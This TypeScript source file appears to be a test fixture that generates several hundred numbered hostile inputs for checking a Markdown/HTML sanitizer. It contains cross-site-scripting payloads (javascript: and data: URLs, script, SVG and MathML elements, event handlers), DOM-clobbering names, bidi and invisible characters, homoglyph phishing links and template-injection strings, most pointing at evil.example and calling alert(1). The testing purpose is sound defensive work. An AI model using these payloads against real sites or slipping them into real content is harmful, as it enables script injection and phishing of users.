/** A text that somebody might write to harm its readers. */
export interface HostileInput {
  /** Class and number. */
  readonly id: string;
  readonly input: string;
}

const CALL = 'alert(1)';
const EVIL = 'https://evil.example';

/** Destinations that must never become a link or a picture. */
const DESTINATIONS = [
  `javascript:${CALL}`,
  `JAVASCRIPT:${CALL}`,
  `jAvAsCrIpT:${CALL}`,
  `javascript:%61lert(1)`,
  `javascript://evil.example/%0a${CALL}`,
  `\u0001javascript:${CALL}`,
  `java\tscript:${CALL}`,
  `&#106;avascript:${CALL}`,
  `&#x6a;&#x61;vascript:${CALL}`,
  `javascript&#58;${CALL}`,
  `javascript&colon;${CALL}`,
  `java&Tab;script:${CALL}`,
  `\u200bjavascript:${CALL}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${CALL}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${CALL}>`,
  `blob:${EVIL}/7`,
  `filesystem:${EVIL}/temporary/x`,
  `view-source:javascript:${CALL}`,
  `file:///c:/windows/win.ini`,
  `intent://scan#Intent;scheme=x;end`,
  `ms-settings:network`,
  `tel:+491234`,
  `sms:+491234`,
  `ftp://evil.example/x`,
  `ws://evil.example`,
  `about:srcdoc`,
  `//evil.example/x`,
  `\\\\evil.example\\x`,
  `/logout`,
  `?delete=1`,
  `#top`,
  `http:`,
  `https://`,
  `https://[::`,
  `mailto`,
] as const;

const LINKS = [
  (to: string) => `[press](${to})`,
  (to: string) => `[press](<${to}> "title")`,
  (to: string) => `[press][ref]\n\n[ref]: ${to}`,
  (to: string) => `![picture](${to})`,
  (to: string) => `<${to}>`,
];

/** Elements that do something by being there, and some that hide others from a filter. */
const ELEMENTS = [
  `<script>${CALL}</script>`,
  `<script src="${EVIL}/x.js"></script>`,
  `<SCRIPT/SRC="${EVIL}/x.js"></SCRIPT>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<iframe src="javascript:${CALL}"></iframe>`,
  `<iframe srcdoc="<script>${CALL}</script>"></iframe>`,
  `<object data="${EVIL}/x.swf"></object>`,
  `<embed src="${EVIL}/x.swf">`,
  `<img src="${EVIL}/pixel.gif">`,
  `<img srcset="${EVIL}/a.png 1x, ${EVIL}/b.png 2x">`,
  `<picture><source srcset="${EVIL}/a.webp"><img></picture>`,
  `<video poster="${EVIL}/p.png"><source src="${EVIL}/v.mp4"></video>`,
  `<audio src="${EVIL}/a.mp3" autoplay></audio>`,
  `<link rel=stylesheet href="${EVIL}/x.css">`,
  `<link rel=preload as=image href="${EVIL}/x.png">`,
  `<style>@import "${EVIL}/x.css";</style>`,
  `<style>*{background:url(${EVIL}/x.png)}</style>`,
  `<base href="${EVIL}/">`,
  `<meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<form action="${EVIL}"><input name=password><button>OK</button></form>`,
  `<input type=image src="${EVIL}/x.png">`,
  `<button formaction="javascript:${CALL}">x</button>`,
  `<isindex action="javascript:${CALL}">`,
  `<textarea autofocus onfocus=${CALL}></textarea>`,
  `<select onfocus=${CALL} autofocus></select>`,
  `<details open ontoggle=${CALL}>x</details>`,
  `<dialog open oncancel=${CALL}>x</dialog>`,
  `<marquee onstart=${CALL}>x</marquee>`,
  `<body onload=${CALL}>`,
  `<html onclick=${CALL}>`,
  `<svg onload=${CALL}></svg>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><script href="data:,${CALL}"/></svg>`,
  `<svg><a xlink:href="javascript:${CALL}"><text>x</text></a></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s></svg>`,
  `<svg><set attributeName=href to="javascript:${CALL}"></svg>`,
  `<svg><foreignObject><iframe src="javascript:${CALL}"></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x><script>${CALL}</script></svg>#x"></svg>`,
  `<svg><style><img src=x onerror=${CALL}></style></svg>`,
  `<math href="javascript:${CALL}">x</math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}></style></table></math>`,
  `<math><annotation-xml encoding="text/html"><script>${CALL}</script></annotation-xml></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<template><script>${CALL}</script></template>`,
  `<template shadowrootmode=open><script>${CALL}</script></template>`,
  `<xmp><img src=x onerror=${CALL}></xmp>`,
  `<title></title><img src=x onerror=${CALL}>`,
  `<plaintext><img src=x onerror=${CALL}>`,
  `<!--><img src=x onerror=${CALL}>-->`,
  `<!-- --!><img src=x onerror=${CALL}> -->`,
  `<![CDATA[<img src=x onerror=${CALL}>]]>`,
  `<?xml-stylesheet href="javascript:${CALL}"?>`,
  `<x-card .innerHTML="<img src=x onerror=${CALL}>"></x-card>`,
  `<se-post backend="${EVIL}"></se-post>`,
  `<se-provider backend="${EVIL}"><se-feed></se-feed></se-provider>`,
  `<slot name=actions></slot>`,
  `<div slot=actions part=primary>Approve</div>`,
  `<portal src="${EVIL}"></portal>`,
  `<fencedframe src="${EVIL}"></fencedframe>`,
  `<applet code=x archive="${EVIL}/x.jar"></applet>`,
  `<frameset><frame src="javascript:${CALL}"></frameset>`,
  `<table background="${EVIL}/x.png"><td>x</table>`,
  `<a href="javascript:${CALL}">x</a>`,
  `<a href="https://good.example" ping="${EVIL}">x</a>`,
  `<area href="javascript:${CALL}">`,
  `<bdo dir=rtl>txet</bdo>`,
  `<plaintext>`,
] as const;

const EVENTS = (
  'abort animationend animationstart auxclick beforecopy beforeinput beforematch beforetoggle blur cancel canplay ' +
  'change click close contextmenu copy cut dblclick drag drop error focus focusin formdata gotpointercapture input ' +
  'invalid keydown keyup load loadstart message mousedown mouseenter mouseover paste pointerdown pointermove ' +
  'pointerrawupdate reset resize scroll scrollend securitypolicyviolation select slotchange submit toggle ' +
  'transitionend unload wheel'
).split(' ');

/** Names that shadow properties of documents, forms and objects. */
const CLOBBERS = (
  '__proto__ constructor prototype hasOwnProperty toString valueOf body head cookie domain forms images links ' +
  'location defaultView activeElement attributes childNodes firstChild parentNode innerHTML nodeName ownerDocument ' +
  'submit reset action method elements length item contentToDom customElements trustedTypes'
).split(' ');

const BIDI = ['\u202a', '\u202b', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u2069', '\u202c'];
const INVISIBLE = [
  '\u200b',
  '\u200c',
  '\u200d',
  '\u2060',
  '\ufeff',
  '\u00ad',
  '\u180e',
  '\u3164',
  '\u115f',
  '\u2800',
];

const DECEPTIONS = [
  `[https://bank.example/login](${EVIL}/login)`,
  `[www.bank.example](${EVIL})`,
  `[bank.example](${EVIL})`,
  `[HTTPS://BANK.EXAMPLE](${EVIL})`,
  `[h\u200bttps://bank.example](${EVIL})`,
  `[\uff48\uff54\uff54\uff50\uff53://bank.example](${EVIL})`,
  `[**https://bank.example**](${EVIL})`,
  `[\`https://bank.example\`](${EVIL})`,
  `[boss@bank.example](mailto:thief@evil.example)`,
  `[Please open https://bank.example now](${EVIL})`,
  `[https://bank.example](https://bank.example@evil.example/)`,
  `[https://bank.example](https://bank.example.evil.example/)`,
  `[b\u0430nk.example](https://b\u0430nk.example/)`,
  `https://b\u0430nk.example/`,
  `https://\u0432\u0430nk.example/`,
  `[\u202emoc.elpmaxe.knab//:sptth](${EVIL})`,
] as const;

const PRODUCT_TEXT = [
  '@__proto__',
  '@constructor',
  '@"onmouseover="alert(1)',
  '@<img src=x onerror=alert(1)>',
  '#__proto__',
  '#<svg onload=alert(1)>',
  '#constructor #prototype',
  '# __proto__',
  '[__proto__]: javascript:alert(1)\n\n[__proto__]',
  '[constructor]: https://a.example "x"\n\n[constructor] [toString]',
  '${alert(1)}',
  '{{constructor.constructor("alert(1)")()}}',
  '#{7*7} <%= 7*7 %> {% debug %}',
  'lit$123456789$ <!--?lit$1$--> ?lit$1$',
  '<!--lit-part--><img src=x onerror=alert(1)><!--/lit-part-->',
  '{"type":"script","text":"alert(1)"}',
  '[{"type":"link","href":"javascript:alert(1)","children":["x"]}]',
  '```html\n<script>alert(1)</script>\n```',
  '```<script>\nalert(1)\n```',
  '~~~ "onload=alert(1)\nx\n~~~',
  '`<img src=x onerror=alert(1)>`',
  '| <img src=x onerror=alert(1)> | b |\n|-|-|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |',
  '- [x] <img src=x onerror=alert(1)>\n- [ ] [x](javascript:alert(1))',
  '> <iframe src=javascript:alert(1)>\n> > <svg onload=alert(1)>',
  '[<img src=x onerror=alert(1)>](https://a.example)',
  '![<img src=x onerror=alert(1)>](https://evil.example/a.png)',
  '![x](https://evil.example/a.png "\\"onload=alert(1) x=\\"")',
  '[x](https://a.example "<script>alert(1)</script>")',
  '[x](https://a.example/" onclick="alert(1))',
  "[x](https://a.example/' onclick='alert(1))",
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '&amp;lt;script&amp;gt;',
  '\\<script>alert(1)\\</script>',
  '<\u017fcript>alert(1)</\u017fcript>',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '\u001b]0;title\u0007\u001b[2J',
  '=HYPERLINK("https://evil.example")',
  'a\u0000b\u0008c\u007fd',
  '\ud800 \udfff',
] as const;

/** Texts that try to be larger than the place they stand in. */
export const OVERFLOWING_INPUTS: readonly HostileInput[] = number('layout', [
  'W'.repeat(3000),
  `https://a.example/${'x'.repeat(1500)}`,
  `| ${'a | '.repeat(40)}\n|${'-|'.repeat(40)}\n| ${'b'.repeat(400)} |`,
  `\`\`\`\n${'x'.repeat(2000)}\n\`\`\``,
  `\`${'x'.repeat(2000)}\``,
  'a\u0489'.repeat(40) + 'e\u0301'.repeat(10) + `z${'\u0348'.repeat(300)}`,
  '\ufdfd'.repeat(60),
  `${'> '.repeat(14)}deep`,
  '- '.repeat(14) + 'deep',
  `# ${'heading'.repeat(200)}`,
  `#${'Topic'.repeat(20)} @${'a'.repeat(60)}`,
  `![${'alternative '.repeat(100)}](https://evil.example/a.png)`,
  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}'.repeat(200),
  '\u202e' + 'right to left '.repeat(60),
  '\u0627\u0644\u0633\u0644\u0627\u0645 '.repeat(200),
  '\n'.repeat(500) + 'end',
  'line\n'.repeat(400),
  `1${'0'.repeat(8)}. far away`,
]);

/** About 600 hostile texts of all classes. Everything in them that loads would load from `evil.example`. */
export const HOSTILE_INPUTS: readonly HostileInput[] = [
  ...number(
    'link',
    DESTINATIONS.flatMap((to) => LINKS.map((link) => link(to))),
  ),
  ...number('picture', [
    `![x](${EVIL}/pixel.gif)`,
    `[![x](${EVIL}/pixel.gif)](${EVIL})`,
    `![x][p]\n\n[p]: ${EVIL}/p.gif`,
  ]),
  ...number('element', ELEMENTS),
  ...number(
    'element-in-line',
    ELEMENTS.map((element) => `Text ${element} **more**`),
  ),
  ...number(
    'event',
    EVENTS.map((event) => `<b on${event}=${CALL} tabindex=1 contenteditable>x</b>`),
  ),
  ...number(
    'clobber',
    CLOBBERS.map((name) => `<form id="${name}"><img name="${name}"><a id=${name} href="${EVIL}">x</a>`),
  ),
  ...number(
    'bidi',
    BIDI.flatMap((control) => [`pay${control}lap`, `[a${control}b](${EVIL})`, `\`a${control}\``]),
  ),
  ...number(
    'bidi-reference',
    BIDI.map((control) => `a&#x${control.charCodeAt(0).toString(16)};b`),
  ),
  ...number(
    'invisible',
    INVISIBLE.flatMap((mark) => [mark.repeat(5), `[${mark}](${EVIL})`, `pay${mark}pal`]),
  ),
  ...number('deception', DECEPTIONS),
  ...number('product', PRODUCT_TEXT),
  ...OVERFLOWING_INPUTS,
];

function number(kind: string, inputs: readonly string[]): HostileInput[] {
  return inputs.map((input, index) => ({ id: `${kind}-${String(index + 1)}`, input }));
}
